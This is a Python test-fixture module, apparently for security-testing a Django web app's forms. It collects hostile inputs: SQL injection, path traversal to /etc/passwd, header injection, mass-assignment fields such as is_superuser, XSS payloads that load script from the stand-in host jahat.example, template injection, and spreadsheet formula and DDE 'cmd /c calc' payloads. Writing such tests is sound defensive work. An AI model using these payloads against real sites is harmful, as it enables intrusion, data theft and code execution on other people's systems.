"""What attackers and accidents send: hostile values, forged fields, script and formula payloads."""

import csv
from pathlib import Path
from urllib.parse import urlencode

from lxml import html

AKSES = Path(__file__).with_name("akses.csv")

# name → one value for a text field
NILAI_JAHAT = {
    "nul": "\x00",
    "nul di tengah": "korban\x00 lain",
    "arah terbalik": "aman \u202egnp.exe\u202c",
    "tanpa lebar": "\u200b\u200d\ufeff",
    "huruf paruh": "\ud800",
    "di luar BMP": "𝟙𝟚𝟛 🧕🏽",
    "kosong": "   \t\r\n ",
    "templat": "{{ request.user }}{% load x %}${7*7}",
    "angka raksasa": "9" * 5000,
    "bulat melampaui kolom": str(10**30),
    "pecahan aneh": "1e400",
    "bukan angka": "NaN",
    "minus": "-1",
    "daftar JSON": '[{"id": [null, {}]}]',
    "tanggal mustahil": "31/02/0000",
    "uuid cacat": "00000000-0000-0000-0000-00000000000g",
    "kutip": "'\"--; DROP TABLE rad_aksi; %s %(x)s",
    "jalur": "../../../../etc/passwd",
    "kepala surat": "a\r\nBcc: x@example.com",
}
SATU_MEGABITA = "a" * 1_000_000

# What nobody may set through a form. Values are plausible, so that an open door would show.
TERLARANG = {
    "id": "00000000-0000-4000-8000-000000000001",
    "pk": "00000000-0000-4000-8000-000000000001",
    "rad": "00000000-0000-4000-8000-000000000002",
    "rad_id": "00000000-0000-4000-8000-000000000002",
    "versi": "999",
    "status": "ditetapkan",
    "diajukan_oleh": "00000000-0000-4000-8000-000000000003",
    "diputuskan_oleh": "00000000-0000-4000-8000-000000000003",
    "diajukan_pada": "2001-01-01T00:00:00Z",
    "dibuat_pada": "2001-01-01T00:00:00Z",
    "oleh": "00000000-0000-4000-8000-000000000003",
    "by": "00000000-0000-4000-8000-000000000003",
    "nomor": "77",
    "final": "on",
    "snapshot_final": '{"palsu": 1}',
    "sidik_final": "f" * 64,
    "uraian_normal": "palsu",
    "is_active": "",
    "demo": "on",
    "is_superuser": "on",
    "peran": "sekretaris",
    "lembaga": "00000000-0000-4000-8000-000000000004",
    "penugasan-0-peran": "sekretaris",
    "berkas_final": "../../settings.py",
}

JUMLAH_BARIS = ("-1", "", "abc", "9" * 5000, "\x00", None)

JSON_JAHAT = (
    "null", "[]", "{}", "1", '"a"', "[[[[]]]]", '{"id":1}', "{", "\x00",
    '{"id":null,"response":{}}',
    '{"id":"YQ","rawId":"YQ","type":"public-key","response":{"clientDataJSON":"YQ",'
    '"authenticatorData":"YQ","signature":"YQ","userHandle":"YQ"}}',
    '{"id":"YQ","rawId":"YQ","type":"public-key","response":{"clientDataJSON":"e30",'
    '"authenticatorData":"YQ","signature":"YQ","userHandle":"/w"},"clientExtensionResults":{}}',
    '{"id":"YQ","rawId":"YQ","type":"public-key","response":{"clientDataJSON":"e30",'
    '"attestationObject":"oA"}}',
)  # fmt: skip

_SKRIP = (
    "<script>alert(1)</script>",
    "<ScRiPt >alert(1)</sCrIpT >",
    "<script src=//jahat.example/x.js></script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<img src=x onerror=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    "<IMG SRC=`javascript:alert(1)`>",
    '"><img src=x onerror=alert(1)>',
    "'><img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<svg><animate onbegin=alert(1) attributeName="x">',
    '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x">',
    "<math><mtext></p><img src=x onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "<object data=javascript:alert(1)>",
    "<embed src=data:text/html,<script>alert(1)</script>>",
    "<a href=javascript:alert(1)>klik</a>",
    '<a href="java&#x0A;script:alert(1)">klik</a>',
    "<form action=javascript:alert(1)><button>x</button></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<link rel=stylesheet href=//jahat.example/x.css>",
    "<style>@import '//jahat.example/x.css';</style>",
    "<base href=//jahat.example/>",
    "<meta http-equiv=refresh content=0;url=//jahat.example>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><script>alert(1)</script></template>",
    '" onmouseover="alert(1)',
    "' onmouseover='alert(1)",
    '" autofocus onfocus=alert(1) x="',
    "` onerror=alert(1) `",
    "<x hx-get=/rad/ hx-trigger=load>",
    "<div hx-on::load=alert(1)>",
    '<p data-allauth-onload="x">',
    "javascript:alert(1)//",
    "<b style=position:fixed>palsu</b>",
    "<h1>Judul palsu</h1>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "<\u2028script>alert(1)</script>",
    "%3Cscript%3Ealert(1)%3C/script%3E",
)
_TEMPLAT = (
    "{{ 7|add:7 }}",
    "{{ request.user.password }}",
    "{% csrf_token %}",
    "{% load static %}",
    "{% include 'base.html' %}",
    "{# ulasan #}",
    "{%- raw -%}",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
)
MUATAN = (*_SKRIP, *_TEMPLAT)

RUMUS = (
    "=1+1",
    "=cmd|'/c calc'!A0",
    '=HYPERLINK("http://jahat.example","klik")',
    "=WEBSERVICE('http://jahat.example')",
    "=@SUM(1+1)",
    "+1+1",
    "-2+3",
    "@SUM(1+1)",
    "|calc",
    "%0A=1+1",
    ";=1+1",
    '"=1+1',
    "'=1+1",
    "= 1+1",
    "＝1+1",
    "=DDE('cmd';'/c calc')",
)


def baris_akses() -> list[dict[str, str]]:
    """Return the rows of tests/akses.csv."""
    with AKSES.open(encoding="utf-8", newline="") as berkas:
        return list(csv.DictReader(berkas))


def badan(isian: dict[str, list[str]]) -> bytes:
    """Return *isian* as the body of a posted form, lone surrogates included."""
    return urlencode(isian, doseq=True, errors="surrogatepass").encode()


def isian_halaman(isi: bytes, alamat: str) -> dict[str, list[str]] | None:
    """Return what a browser would send from the form on page *isi* that posts to *alamat*.

    None where the page holds no such form. Every select, radio group and checkbox is filled.
    """
    halaman = html.fromstring(isi.decode())
    tanpa_kueri = alamat.partition("?")[0]
    for form in halaman.iter("form"):
        tujuan = {form.get("action") or tanpa_kueri}
        tujuan |= {b.get("formaction") for b in form.iter("button") if b.get("formaction")}
        sama = any(t.partition("#")[0].partition("?")[0] == tanpa_kueri for t in tujuan)
        if sama and (form.get("method") or "get").lower() == "post":
            return _isian(form)
    return None


def _isian(form) -> dict[str, list[str]]:
    hasil: dict[str, list[str]] = {}
    for ruas in form.inputs:
        if not ruas.name or ruas.name == "csrfmiddlewaretoken" or ruas.tag == "button":
            continue
        jenis = ruas.get("type", "")
        if jenis in ("file", "submit"):
            continue
        if ruas.tag == "select":
            nilai = ruas.value or next((o for o in ruas.value_options if o), "")
            hasil[ruas.name] = [nilai] if isinstance(nilai, str) else list(nilai)
        elif jenis in ("checkbox", "radio"):
            if ruas.get("checked") is not None or ruas.name not in hasil:
                hasil.setdefault(ruas.name, []).append(ruas.get("value", "on"))
        else:
            hasil.setdefault(ruas.name, []).append(ruas.value or "")
    for nama in [n for n in hasil if n.endswith("-DELETE")]:
        del hasil[nama]  # nobody ticks "remove"
    return hasil
